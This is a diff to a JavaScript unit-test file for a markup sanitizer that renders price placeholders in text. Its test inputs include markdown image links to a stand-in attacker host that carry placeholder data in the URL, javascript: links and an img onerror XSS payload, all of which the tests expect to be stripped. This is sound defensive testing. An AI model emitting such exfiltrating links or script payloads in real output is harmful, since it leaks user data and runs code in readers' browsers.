@@ -309,18 +309,18 @@ describe('markup', () => {
   test.each([
     ['![x](http://evil.example/?d=1)', ''],
     ['The chart ![x](http://evil.example/?d=[[t1.close]]) shows it.', 'The chart shows it.'],
-    ['Read [the manual](https://evil.example/a.b).', 'Read the manual.'],
-    ['Read [the manual][m].\n\n[m]: http://evil.example', 'Read the manual.'],
+    ['Read [the question](https://evil.example/a.b).', 'Read the question.'],
+    ['Read [the question][m].\n\n[m]: http://evil.example', 'Read the question.'],
     ['<img src=x onerror=alert(1)>', ''],
     ['A <b>bold</b> claim.', ''],
     ['See https://evil.example/?d=a now.', ''],
     ['See www.evil.example for it.', ''],
     ['Write to me@evil.example for it.', ''],
-    ['[click. Here](javascript:alert(1))', 'click.'],
+    ['[read. Here](javascript:alert(1))', 'read.'],
     ['```\nwindow.alert(1)\n```', ''],
     ['a &lt;script&gt; b', ''],
     ['\\<script\\> stands.', ''],
-    ['It is `code` here.', 'It is code here.'],
+    ['Here is `code`.', 'Here is code.'],
     ['[a]\n(http://evil.example)', ''],
   ])('%s', (text, content) => {
     expect(check(text).content).toBe(content)
@@ -330,9 +330,9 @@ describe('markup', () => {
 describe('blocks', () => {
   test('keep their form', () => {
     const text =
-      '## Levels\n\nThe levels are these:\n\n1. [[t2.levels.0.price]] is a support.\n2. [[t2.levels.1.price]] is a support. It was\nvisited.\n\n| Name | Price |\n|---|---:|\n| Close | [[t1.close]] |\n\nThat is all.'
+      '## Levels\n\nThe levels are these:\n\n1. [[t2.levels.0.price]] is a support.\n2. [[t2.levels.1.price]] is a support. That was\nvisited.\n\n| Name | Price |\n|---|---:|\n| Close | [[t1.close]] |\n\nThat is all.'
     expect(said(text)).toBe(
-      '### Levels\n\nThe levels are these:\n\n- 1.07950 is a support.\n- 1.08100 is a support. It was visited.\n\n| Name | Price |\n| --- | --- |\n| Close | 1.08423 |\n\nThat is all.',
+      '### Levels\n\nThe levels are these:\n\n- 1.07950 is a support.\n- 1.08100 is a support. That was visited.\n\n| Name | Price |\n| --- | --- |\n| Close | 1.08423 |\n\nThat is all.',
     )
   })
 
